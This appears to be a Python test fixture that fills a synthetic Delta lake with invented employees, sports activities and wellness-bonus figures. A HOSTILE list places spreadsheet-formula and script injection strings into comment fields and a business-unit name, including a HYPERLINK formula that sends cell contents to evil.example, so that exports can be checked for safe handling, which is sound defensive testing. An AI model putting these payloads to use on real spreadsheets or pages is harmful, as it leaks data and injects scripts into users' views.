"""A whole gold lake, worked out by the project's own rules and written without Spark."""

from __future__ import annotations

import random
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa

from sportdata.adapters import delta
from sportdata.adapters.hr_names import Names
from sportdata.adapters.kpis_history import KpisHistory
from sportdata.contracts.tables import (
    ACTIVITES,
    ANOMALIES,
    DECLARATIONS,
    ELIGIBILITES,
    KPIS,
    PARAMETRES,
    PRATIQUE_MENSUELLE,
    PROCHES_DU_SEUIL,
    RH_VERSIONS,
    SIMULATIONS,
    Table,
)
from sportdata.jobs import history_rows
from sportdata.jobs.known import day_number, day_of
from sportdata.rules.calendar import PARIS
from sportdata.rules.declarations import judge, limit_km, wellness
from sportdata.rules.parameters import Parameters
from sportdata.stages.gold.kpis import kpis
from sportdata.stages.history import practice
from sportdata.stages.history.indicators import Counts, Indicators
from sportdata.stages.history.known import Person
from sportdata.stages.history.what_if import Point, Somebody, grid
from sportdata.stages.sample_delivery import make_people

TODAY = date(2026, 6, 15)
NOW = datetime(2026, 6, 15, 8, 0, tzinfo=UTC)
BATCH = 41
RULES = Parameters(Decimal("0.05"), 15, 365, 5, Decimal(15), Decimal(25), "", None)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1", "a;=1+1", 'b,"=1\n=2', "  =1",
    "<script>alert(1)</script>", "\x07_x0041_", "＝1+1", "x" * 40_000, "Nîmes – 10 %",
)  # fmt: skip
EVIL_BU = "=1+1<b>R&D</b>"


class GoldLake:
    """`people` invented employees, of whom `names` tells what only HR may read; texts that mean harm stand in comments and a BU. The first
    `to_come` of them are hired in a month's time."""

    def __init__(self, lake: Path, people: int = 24, activities: int = 20, hostile: bool = True, to_come: int = 0) -> None:
        self.lake = lake
        self._draw = random.Random(5)
        delivered = make_people(people, 7)
        self.names: Names = {one.employee_id: (one.nom.strip(), one.prenom) for one in delivered}
        self.addresses = [one.adresse for one in delivered]
        self.somebody = {
            one.employee_id: Person(
                EVIL_BU if hostile and place % 5 == 0 else one.bu, None, Decimal(one.salaire) + Decimal("0.33"), one.mode,
                None if place == 3 else self._draw.randint(500, 31_000), 1500, True,
            )
            for place, one in enumerate(delivered)
        }  # fmt: skip
        for who in list(self.somebody)[:to_come]:
            self.somebody[who] = self.somebody[who]._replace(hired=day_number(TODAY) + 30)
        sports = ["Tennis", "Course à pied", "Randonnée", "Natation", "Escalade", "Vélo", "Judo", "Voile", "Marche", "Boxe"]
        self.done: list[dict[str, Any]] = []
        for who, person in self.somebody.items():
            for _ in range(self._draw.randint(0, activities * 2)):
                day = TODAY - timedelta(days=int(364 * self._draw.random() ** 1.3))
                start = datetime.combine(day, time(18, 30), PARIS).astimezone(UTC)
                sport = sports[(who + self._draw.randint(0, 2)) % 10]
                self.done.append(
                    {
                        "id": len(self.done) + 1, "employee_id": who, "date_debut": start, "type_activite": sport,
                        "distance_m": None if sport in ("Tennis", "Judo", "Boxe", "Escalade") else float(self._draw.randint(2000, 20000)),
                        "duree_s": self._draw.randint(1800, 7200), "bu": person.bu, "jour": day, "compte": True, "dans_fenetre": True,
                        "commentaire": HOSTILE[len(self.done) % len(HOSTILE)] if hostile else "Belle séance", "batch_id": BATCH,
                    }
                )  # fmt: skip
        self._write()

    def _write(self) -> None:
        counts = {who: sum(one["employee_id"] == who for one in self.done) for who in self.somebody}
        rights = [self._right(who, person, counts[who]) for who, person in self.somebody.items()]
        table = pa.Table.from_pylist(rights, delta.arrow_schema(ELIGIBILITES))
        self.kpis = kpis(table, TODAY, BATCH)
        here = {who: Somebody(person, counts[who]) for who, person in self.somebody.items()}
        declared = list(history_rows.declarations(here, RULES))
        self.write(ELIGIBILITES, rights)
        self.write(KPIS, [self.kpis])
        self.write(ACTIVITES, self.done)
        self.write(DECLARATIONS, declared)
        self.write(PROCHES_DU_SEUIL, list(history_rows.proches_du_seuil(here, RULES)))
        self.write(SIMULATIONS, list(history_rows.simulations(one for one in grid(here.values(), RULES) if _changes_one_rule(one))))
        self.write(PRATIQUE_MENSUELLE, self._practice())
        known = {"connu_du": NOW, "connu_jusqu_a": None, "percent": RULES.percent, "min_activities": 15, "window_days": 365, "days": 5}
        self.write(RH_VERSIONS, [self._known(who, person) for who, person in self.somebody.items()])
        self.write(PARAMETRES, [{**known, "max_walk_km": RULES.max_walk_km, "max_bike_km": RULES.max_bike_km}])
        wrong = [one for one in declared if one["declaration_etat"] in ("incorrecte", "a_verifier", "inconnue")]
        anomalies = [
            {"objet": "declaration", "reference": str(one["employee_id"]), "code": one["declaration_etat"], "detail": "=1+1", "depuis": NOW}
            for one in wrong
        ]
        self.write(ANOMALIES, anomalies)
        self._history()

    def write(self, table: Table, rows: list[dict[str, Any]], batch: int = BATCH) -> None:
        whole = [{"batch_id": batch, **row} for row in rows]
        delta.overwrite(delta.ensure(self.lake, table), pa.Table.from_pylist(whole, delta.arrow_schema(table)))

    def _right(self, who: int, person: Person, count: int) -> dict[str, Any]:
        said = judge(person.mode, person.salary, person.distance_m, person.doubt_m, RULES)
        earns, days = wellness(count, RULES)
        return {
            "employee_id": who, "bu": person.bu, "moyen_deplacement": person.mode, "distance_km": practice.kilometres(person.distance_m),
            "limite_km": limit_km(person.mode, RULES), "declaration_etat": said.etat, "declaration_correcte": said.correcte,
            "prime_sportive": said.prime, "montant_prime_euros": said.montant_prime, "montant_en_attente_euros": said.montant_en_attente,
            "nb_activites": count, "jours_bien_etre": earns, "nb_jours_bien_etre": days,
            "derniere_activite": max((one["date_debut"] for one in self.done if one["employee_id"] == who), default=None),
            "date_reference": TODAY, "batch_id": BATCH,
        }  # fmt: skip

    def _known(self, who: int, person: Person) -> dict[str, Any]:
        hired = None if person.hired is None else day_of(person.hired)
        said = {"bu": person.bu, "date_embauche": hired, "moyen_deplacement": person.mode, "actif": person.active}
        return {"employee_id": who, "connu_du": NOW, **said}

    def _practice(self) -> list[dict[str, Any]]:
        done: dict[int, list[practice.Done]] = {}
        for one in self.done:
            line = practice.Done(one["jour"].replace(day=1), one["type_activite"], 1, int(one["distance_m"] or 0), one["duree_s"])
            done.setdefault(one["employee_id"], []).append(line)
        return practice.monthly(done, {who: person.bu for who, person in self.somebody.items()}, lambda label: label)

    def _history(self) -> None:
        today = day_number(TODAY)
        indicators = Indicators([(0, RULES)], today - 364, today)
        for who, person in self.somebody.items():
            days = sorted(day_number(one["jour"]) for one in self.done if one["employee_id"] == who)
            indicators.put(who, [(0, person)], Counts.of([(day, 1) for day in days]))
        shown = {key: said for key, said in indicators.rows().items() if key[1] in (None, self.somebody[min(self.somebody)].bu)}
        history = KpisHistory(self.lake, self.lake.parent / "history.lock")
        history.show(dict.fromkeys(shown, (0,) * 10), NOW - timedelta(hours=1), BATCH - 1)
        history.show(shown, NOW, BATCH)


def _changes_one_rule(point: Point) -> bool:
    """What a report shows of the grid, which is forty times as large."""
    now = (RULES.percent, RULES.max_walk_km, RULES.max_bike_km, RULES.min_activities)
    return sum(one != other for one, other in zip(point[:4], now, strict=True)) <= 1
